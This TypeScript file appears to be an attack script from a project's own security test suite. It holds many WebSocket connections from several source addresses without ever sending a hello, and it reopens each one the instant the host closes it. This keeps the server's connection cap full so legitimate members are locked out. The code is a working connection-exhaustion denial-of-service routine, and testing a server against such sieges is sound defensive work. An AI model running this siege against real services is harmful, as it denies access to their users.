/**
 * Attacks 9 (and 2's address supply): many addresses, each holding `--per-address` WebSocket
 * connections that never say hello. Every address is one of the attacker's own (bound as the
 * source); when the host closes one (the hello deadline), it is opened again at once, and a
 * refused one is tried again 50 ms later, within a budget of 50 openings per connection.
 *
 * `engaged` comes once the siege is in place and has been through one renewal: 90 % of the sockets
 * held at first have reached the host's hello deadline and been taken again. A member who comes
 * then meets a full cap for a whole deadline period, not the gap of a renewal wave.
 */
import { attackArgs, boundedLife, emit } from '../support/attacker';
import { RawMember } from '../support/member';

const { target, values } = attackArgs({
  addresses: { type: 'string' },
  'per-address': { type: 'string', default: '15' },
  v6: { type: 'boolean', default: false },
});
const addresses = (values.addresses ?? '').split(',').filter(Boolean);
const perAddress = Number(values['per-address']);
const host = values.v6 ? target.host6 : target.host;
const wanted = addresses.length * perAddress;
const open = new Set<RawMember>();
const refused: Record<string, number> = {};
let opened = 0;
let upgraded = 0;
let reopenBudget = wanted * 50;
let ending = false;
let engaged = false;
/** First attempts that have opened or been refused: once all have, the siege is in place. */
let settled = 0;
/** Sockets held when it was, and how many of those have been renewed since. */
let firstHeld: number | null = null;
let renewed = 0;
const engage = () => {
  if (engaged) return;
  engaged = true;
  emit('engaged', { open: open.size, firstHeld, renewed, upgraded, refused });
};
const settle = (first: boolean) => {
  if (!first || ++settled < wanted || firstHeld !== null) return;
  firstHeld = open.size;
  if (firstHeld === 0) engage();
};
const renewedOne = () => {
  if (firstHeld !== null && ++renewed >= Math.ceil(firstHeld * 0.9)) engage();
};
// Bounded: engaged after 25 s whatever the host did.
setTimeout(engage, 25_000).unref();

function openOne(localAddress: string, first = false, renewal = false): void {
  opened++;
  const m = new RawMember({
    endpoint: { host, port: target.port },
    fingerprint: target.fingerprint,
    localAddress,
    passcode: false,
  });
  m.ws.once('open', () => {
    upgraded++;
    open.add(m);
    settle(first);
    if (renewal) renewedOne();
  });
  m.ws.once('close', () => {
    const wasOpen = open.delete(m);
    if (!wasOpen) {
      settle(first);
      const why = m.lastError ?? `close ${m.closeCode}`;
      const key = /\b(\d{3})\b/.exec(why)?.[1] ? `HTTP ${/\b(\d{3})\b/.exec(why)![1]}` : why.slice(0, 60);
      refused[key] = (refused[key] ?? 0) + 1;
    }
    if (!ending && reopenBudget > 0) {
      reopenBudget--;
      // A seat that was held is taken again at once, before anyone else's retry can get it.
      if (wasOpen) setImmediate(() => openOne(localAddress, false, true));
      else setTimeout(() => openOne(localAddress, false, renewal), 50);
    }
  });
}

boundedLife(target.maxMs, () => {
  ending = true;
  const held = open.size;
  for (const m of open) m.destroy();
  return { addresses: addresses.length, perAddress, wanted, opened, upgraded, held, refused };
});
for (const a of addresses) for (let i = 0; i < perAddress; i++) openOne(a, true);
